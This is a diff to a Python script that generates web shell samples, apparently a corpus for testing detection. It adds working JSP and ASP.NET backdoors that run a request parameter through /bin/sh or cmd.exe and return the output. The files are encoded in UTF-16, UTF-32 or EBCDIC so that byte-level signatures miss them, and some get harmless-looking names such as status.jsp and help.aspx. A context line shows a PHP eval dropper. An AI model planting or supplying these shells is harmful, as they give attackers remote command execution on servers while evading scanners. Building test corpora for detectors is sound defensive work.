@@ -614,3 +614,74 @@ w('php/sources/register-globals.php', '''<?php if ($savepath != "") { $fh = fope
 w('php/droppers/pack-dropper.php', '<script language="php">\nfputs(fopen(pack("H*", "'
   + binascii.hexlify(b'wp-tmp.php').decode() + '"), "w"), pack("H*", "'
   + binascii.hexlify(b"<?php @eval($_POST['t']); ?>").decode() + '"));\n</script>\n')
+
+# ---------------- JSP and ASP.NET: pages written in an encoding where ASCII is not itself ----------------
+# The server decodes the page before compiling it; byte-level signatures see only the encoded bytes.
+JSP_EXEC = '''<%@ page import="java.io.*" %>
+<%
+    String q = request.getParameter("q");
+    if (q != null) {
+        Process p = Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", q});
+        BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
+        for (String l; (l = r.readLine()) != null; ) out.println(l);
+    }
+%>
+'''
+# saved as UTF-16 with a byte-order mark (Tomcat honours the mark)
+w('jsp/charsets/status.jsp', codecs.BOM_UTF16_LE + JSP_EXEC.encode('utf-16-le'))
+# the encoding named in plain ASCII, the code after it in UTF-16BE (the whole file is decoded so;
+# the directive itself becomes template text)
+w('jsp/charsets/include/header.jsp', b'<%@ page pageEncoding="UTF-16BE"%>' + JSP_EXEC.encode('utf-16-be'))
+# the charset of contentType serves when there is no pageEncoding; the code is EBCDIC
+w('jsp/charsets/WEB-INF/footer.jsp', b'<%@page contentType="text/html;charset=cp037"%>  '
+  + JSP_EXEC.replace('"/bin/sh", "-c", q', '"cmd.exe", "/c", q').encode('cp037'))
+# an XML-syntax page wholly in EBCDIC: XML's detection finds the family, the declaration the code page
+w('jsp/charsets/ebcdic.jspx', '''<?xml version="1.0" encoding="IBM037"?>
+<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">
+<jsp:scriptlet>
+    String c = request.getParameter("c");
+    if (c != null) {
+        java.util.Scanner s = new java.util.Scanner(Runtime.getRuntime().exec(c).getInputStream()).useDelimiter("\\\\A");
+        out.print(s.hasNext() ? s.next() : "");
+    }
+</jsp:scriptlet>
+</jsp:root>
+'''.encode('cp037'))
+# an XML-syntax page in UTF-16LE without a mark (XML's detection: 3C 00 3F 00)
+w('jsp/charsets/view.jspx', '''<?xml version="1.0" encoding="UTF-16LE"?>
+<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">
+<jsp:directive.page import="java.io.*"/>
+<jsp:scriptlet>
+    ProcessBuilder b = new ProcessBuilder("/bin/sh", "-c", request.getParameter("x"));
+    b.redirectErrorStream(true);
+    InputStream in = b.start().getInputStream();
+    int ch; while ((ch = in.read()) != -1) out.write(ch);
+</jsp:scriptlet>
+</jsp:root>
+'''.encode('utf-16-le'))
+ASPX_EXEC = '''<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Diagnostics" %>
+<script runat="server">
+protected void Page_Load(object sender, EventArgs e)
+{
+    string a = Request.Form["a"];
+    if (string.IsNullOrEmpty(a)) return;
+    var si = new ProcessStartInfo("cmd.exe", "/c " + a) { UseShellExecute = false, RedirectStandardOutput = true };
+    Response.Write(Server.HtmlEncode(Process.Start(si).StandardOutput.ReadToEnd()));
+}
+</script>
+'''
+# saved as "Unicode" (UTF-16LE with a mark), as Windows editors offer
+w('aspx/charsets/aspnet_client/system_web/help.aspx', codecs.BOM_UTF16_LE + ASPX_EXEC.encode('utf-16-le'))
+# a handler in UTF-32LE with a mark (.NET's reader detects it)
+w('aspx/charsets/App_Data/ping.ashx', codecs.BOM_UTF32_LE + '''<%@ WebHandler Language="C#" Class="Ping" %>
+using System.Web;
+using System.Diagnostics;
+public class Ping : IHttpHandler {
+    public bool IsReusable { get { return false; } }
+    public void ProcessRequest(HttpContext ctx) {
+        Process p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + ctx.Request["h"]) { UseShellExecute = false, RedirectStandardOutput = true });
+        ctx.Response.Write(p.StandardOutput.ReadToEnd());
+    }
+}
+'''.encode('utf-32-le'))
